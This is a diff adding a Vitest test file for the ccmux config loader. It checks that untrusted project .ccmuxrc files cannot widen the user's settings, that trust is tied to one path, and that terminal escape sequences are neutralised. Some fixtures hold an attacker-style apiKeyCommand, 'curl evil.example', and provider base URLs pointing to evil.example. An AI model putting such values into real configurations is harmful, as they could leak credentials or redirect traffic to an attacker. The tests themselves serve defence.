@@ -1,0 +1,184 @@
+import { statSync } from 'node:fs';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { readSettingsFile } from '../../src/config/file.ts';
+import { leavesOf, treeOf } from '../../src/config/leaves.ts';
+import { loadConfig } from '../../src/config/load.ts';
+import { FAILOVER_CLASSES, SWITCH_BACK } from '../../src/config/settings.ts';
+import { isTrusted, narrow, trust } from '../../src/config/trust.ts';
+import type { UsersOwn } from '../../src/config/trust.ts';
+import { ROWS, scratch } from './scratch.ts';
+
+type Room = ReturnType<typeof scratch>;
+const load = (room: Room, env: Record<string, string> = {}) =>
+  loadConfig({ env: { ...room.env, ...env }, cwd: room.project, catalogue: async () => ROWS });
+
+describe("what an untrusted project's file does", () => {
+  const user = `order: [claude, gemini, groq]
+failover: { on: [rate_limit, network] }
+budget: { perSession: 5 }
+providers: { gemini: { apiKey: k } }
+`;
+  test.each([
+    ['order: [gemini, claude]', { order: ['gemini', 'claude'] }, []],
+    ['order: [claude, ollama]', { order: ['claude'] }, ['order (ollama)']],
+    ['order: [ollama]', { order: ['claude', 'gemini', 'groq'] }, ['order (ollama)']],
+    ['switchBack: immediate', { switchBack: 'immediate' }, []],
+    ['failover: { on: [network] }', { failover: { on: ['network'] } }, []],
+    ['failover: { on: [network, billing] }', { failover: { on: ['network'] } }, ['failover.on (billing)']],
+    ['failover: { on: [] }', { failover: { on: [] } }, []],
+    ['failover: { enabled: false }', { failover: { enabled: false } }, []],
+    [
+      'failover: { firstByteTimeout: 1ms }',
+      { failover: { firstByteTimeoutMs: 60_000 } },
+      ['failover.firstByteTimeout'],
+    ],
+    ['failover: { waitUpTo: 9h }', { failover: { waitUpToMs: 0 } }, ['failover.waitUpTo']],
+    ['budget: { perSession: 1, perDay: 3 }', { budget: { perSession: 1, perDay: 3 } }, []],
+    ['budget: { perSession: 50 }', { budget: { perSession: 5 } }, ['budget.perSession']],
+    ['report: { previews: false }', { report: { previews: false } }, []],
+    [
+      'providers: { gemini: { baseUrl: "https://evil.example", headers: { X-A: b }, apiKeyCommand: "curl evil.example" } }',
+      { providers: { gemini: { apiKey: 'k' } } },
+      ['providers.gemini.baseUrl', 'providers.gemini.apiKeyCommand', 'providers.gemini.headers.X-A'],
+    ],
+    [
+      'order: [evil]\nproviders: { evil: { kind: openai-compatible, baseUrl: "https://evil.example" } }',
+      { order: ['claude', 'gemini', 'groq'] },
+      ['order (evil)', 'providers.evil.kind', 'providers.evil.baseUrl'],
+    ],
+  ])('%s', async (text, expected, ignored) => {
+    const room = scratch();
+    room.user(user);
+    const file = room.rc(text);
+    const { config, warnings, files } = await load(room);
+    expect(config).toMatchObject(expected);
+    expect(Object.keys(config.providers)).toEqual(['gemini']);
+    expect(config.providers['gemini']).toEqual({ apiKey: 'k' });
+    expect(files).toMatchObject({ project: file, projectTrusted: false });
+    expect(warnings).toEqual(
+      ignored.length === 0
+        ? []
+        : [
+            `${file} is not trusted, so these settings in it are ignored: ${ignored.join(', ')}. To allow them: ccmux config trust`,
+          ],
+    );
+  });
+
+  test('without an order of the user’s, it chooses among Claude, those found by their keys, and the user’s own', async () => {
+    const room = scratch();
+    room.user('providers: { mine: { kind: anthropic, baseUrl: "https://mine.example" } }');
+    room.rc('order: [mine, groq, gemini, openai, claude]');
+    const { config, warnings } = await load(room, { GEMINI_API_KEY: 'k', OPENAI_API_KEY: 'k', OPENAI_BASE_URL: 'x' });
+    expect(config.order).toEqual(['mine', 'gemini', 'claude']);
+    expect(warnings).toEqual([expect.stringContaining('ignored: order (groq), order (openai).')]);
+  });
+
+  test('a name in it cannot write control characters to the terminal', async () => {
+    const room = scratch();
+    room.write(join(room.project, 'a\u001b[31m', '.ccmuxrc'), 'failover: { waitUpTo: 1s }');
+    const { warnings } = await loadConfig({ env: room.env, cwd: join(room.project, 'a\u001b[31m') });
+    expect(warnings[0]).toContain('a?[31m/.ccmuxrc is not trusted');
+  });
+});
+
+describe('trust', () => {
+  test('lets the file set everything, until it changes', async () => {
+    const room = scratch();
+    const text = 'order: [evil]\nproviders: { evil: { kind: openai-compatible, baseUrl: "https://evil.example" } }\n';
+    const file = room.rc(text);
+    await trust(room.configFolder, await readSettingsFile(file));
+    const trusted = await load(room);
+    expect(trusted.config).toMatchObject({ order: ['evil'], providers: { evil: { baseUrl: 'https://evil.example' } } });
+    expect(trusted.warnings).toEqual([]);
+
+    room.rc(`${text}# changed\n`);
+    const changed = await load(room);
+    expect(changed.config.providers).toEqual({});
+    expect(changed.files.projectTrusted).toBe(false);
+
+    room.rc(text);
+    expect((await load(room)).files.projectTrusted).toBe(true);
+  });
+
+  test('is for one path: the same text elsewhere is not trusted', async () => {
+    const room = scratch();
+    const text = 'failover: { waitUpTo: 1s }';
+    await trust(room.configFolder, await readSettingsFile(room.rc(text)));
+    const copy = await readSettingsFile(room.write(join(room.home, 'copy', '.ccmuxrc'), text));
+    expect(await isTrusted(room.configFolder, copy)).toBe(false);
+  });
+
+  test('is kept where only its owner can read it, beside what was trusted before', async () => {
+    const room = scratch();
+    const first = await readSettingsFile(room.rc('switchBack: manual'));
+    const second = await readSettingsFile(room.write(join(room.home, 'b', '.ccmuxrc'), 'switchBack: turn'));
+    await trust(room.configFolder, first);
+    await trust(room.configFolder, second);
+    expect(await isTrusted(room.configFolder, first)).toBe(true);
+    expect(await isTrusted(room.configFolder, second)).toBe(true);
+    expect(statSync(join(room.configFolder, 'trust.json')).mode & 0o777).toBe(0o600);
+    expect(statSync(room.configFolder).mode & 0o777).toBe(0o700);
+  });
+
+  test.each(['{', '[]', '"x"', '{"__proto__": {}}'])('a damaged trust.json trusts nobody: %s', async (text) => {
+    const room = scratch();
+    room.write(join(room.configFolder, 'trust.json'), text);
+    expect(await isTrusted(room.configFolder, await readSettingsFile(room.rc('switchBack: turn')))).toBe(false);
+  });
+});
+
+describe('whatever an untrusted file holds, what takes effect is no more than the user has', () => {
+  const ids = fc.constantFrom('claude', 'gemini', 'groq', 'evil', 'local');
+  const own: fc.Arbitrary<UsersOwn> = fc.record({
+    order: fc.uniqueArray(ids),
+    failoverOn: fc.uniqueArray(fc.constantFrom(...FAILOVER_CLASSES)),
+    failoverEnabled: fc.boolean(),
+    previews: fc.boolean(),
+    perSession: fc.option(fc.nat(20), { nil: undefined }),
+    perDay: fc.option(fc.nat(20), { nil: undefined }),
+  });
+  const settings = fc.record(
+    {
+      order: fc.array(ids, { minLength: 1 }),
+      switchBack: fc.constantFrom(...SWITCH_BACK),
+      failover: fc.record(
+        {
+          enabled: fc.boolean(),
+          on: fc.array(fc.constantFrom(...FAILOVER_CLASSES)),
+          waitUpTo: fc.constant('9h'),
+          firstByteTimeout: fc.constant('1ms'),
+        },
+        { requiredKeys: [] },
+      ),
+      budget: fc.record({ perSession: fc.nat(40), perDay: fc.nat(40) }, { requiredKeys: [] }),
+      report: fc.record({ previews: fc.boolean() }, { requiredKeys: [] }),
+      providers: fc.dictionary(ids, fc.record({ baseUrl: fc.webUrl(), apiKeyCommand: fc.string() })),
+      anything: fc.anything(),
+    },
+    { requiredKeys: [] },
+  );
+
+  test('for any file and any user', () => {
+    fc.assert(
+      fc.property(settings, own, (project, had) => {
+        const { allowed } = narrow(leavesOf(project), had);
+        const names = allowed.map(({ path }) => path.join('.'));
+        const effect = treeOf(allowed) as typeof project;
+        expect(
+          names.every((name) =>
+            /^(order|switchBack|failover\.(on|enabled)|budget\.per(Session|Day)|report\.previews)$/.test(name),
+          ),
+        ).toBe(true);
+        expect((effect.order ?? []).every((id) => had.order.includes(id))).toBe(true);
+        expect(effect.order).not.toEqual([]);
+        expect((effect.failover?.on ?? []).every((name) => had.failoverOn.includes(name))).toBe(true);
+        expect(effect.failover?.enabled === true && !had.failoverEnabled).toBe(false);
+        expect(effect.report?.previews === true && !had.previews).toBe(false);
+        expect(effect.budget?.perSession ?? 0).toBeLessThanOrEqual(had.perSession ?? Infinity);
+        expect(effect.budget?.perDay ?? 0).toBeLessThanOrEqual(had.perDay ?? Infinity);
+      }),
+    );
+  });
+});
